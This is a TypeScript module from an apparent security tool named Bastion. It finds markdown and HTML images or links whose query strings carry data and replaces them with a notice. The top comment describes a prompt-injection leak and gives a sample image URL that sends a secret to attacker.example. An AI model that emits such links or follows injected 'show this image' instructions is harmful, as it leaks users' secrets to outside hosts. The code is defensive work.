import type { Finding } from "../content/finding.js";

/**
 * Neutralising markdown images and links whose address carries data in its query string. A
 * client that renders `![](https://attacker.example/p.png?d=<secret>)` fetches the address at
 * once, so an injected instruction to "show this image" leaks whatever the model filled in.
 */

const MARKDOWN_LINK = /(!?)\[([^\]\n]{0,500})\]\(\s*<?(https?:\/\/[^\s)>]+)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)/gi;
const HTML_IMAGE = /<img\b[^>]*?\bsrc\s*=\s*["']?(https?:\/\/[^"'\s>]+)["']?[^>]*>/gi;
const TEMPLATE_MARKERS = /[{}<>$[\]]|%7[bd]|%24|%3[ce]/i;
const ENCODED_VALUE = /^[A-Za-z0-9+/=_.~-]+$/;

function looksEncoded(value: string, minLength: number): boolean {
  return value.length >= minLength && ENCODED_VALUE.test(value) && /\d/.test(value) && /[A-Za-z]/.test(value);
}

/**
 * Whether a URL carries data in its query string: a value long enough to hold a sentence or a
 * secret, an encoded-looking value, or a template waiting to be filled. Images are judged more
 * strictly than links because a client loads them without a click.
 */
export function urlCarriesData(address: string, kind: "image" | "link"): boolean {
  let url: URL;
  try {
    url = new URL(address);
  } catch {
    return false;
  }
  if (url.search.length <= 1) return false;
  const longValue = kind === "image" ? 24 : 40;
  const encodedValue = kind === "image" ? 12 : 24;
  if (url.search.length > (kind === "image" ? 80 : 160)) return true;
  for (const [, value] of url.searchParams) {
    if (TEMPLATE_MARKERS.test(value) || /[A-Z_]{6,}(?:_HERE|PLACEHOLDER)/.test(value)) return true;
    if (value.length >= longValue || looksEncoded(value, encodedValue)) return true;
  }
  return false;
}

/** The text with data-carrying images and links replaced by a notice, and what was replaced. */
export function neutralizeExfiltrationLinks(text: string): { text: string; findings: Finding[] } {
  const findings: Finding[] = [];
  if (!text.includes("](") && !/<img\b/i.test(text)) return { text, findings };
  const note = (kind: "image" | "link", address: string, start: number, end: number): string => {
    const host = hostOf(address);
    findings.push({ category: "sanitized", kind: "markdown-exfiltration", start, end, evidence: `${kind} to ${host}` });
    const asked = TEMPLATE_MARKERS.test(address.slice(address.indexOf("?")));
    return `[${kind} removed by Bastion: its address ${asked ? "asked for" : "carried"} data to ${host}]`;
  };
  let out = text.replace(MARKDOWN_LINK, (whole: string, bang: string, label: string, address: string, at: number) => {
    const kind = bang ? "image" : "link";
    if (!urlCarriesData(address, kind)) return whole;
    const notice = note(kind, address, at, at + whole.length);
    return kind === "image" ? notice : `${label} ${notice}`;
  });
  if (/<img\b/i.test(out)) {
    out = out.replace(HTML_IMAGE, (whole: string, address: string, at: number) =>
      urlCarriesData(address, "image") ? note("image", address, at, at + whole.length) : whole,
    );
  }
  return findings.length === 0 ? { text, findings } : { text: out, findings };
}

function hostOf(address: string): string {
  try {
    return new URL(address).host;
  } catch {
    return "an unknown host";
  }
}
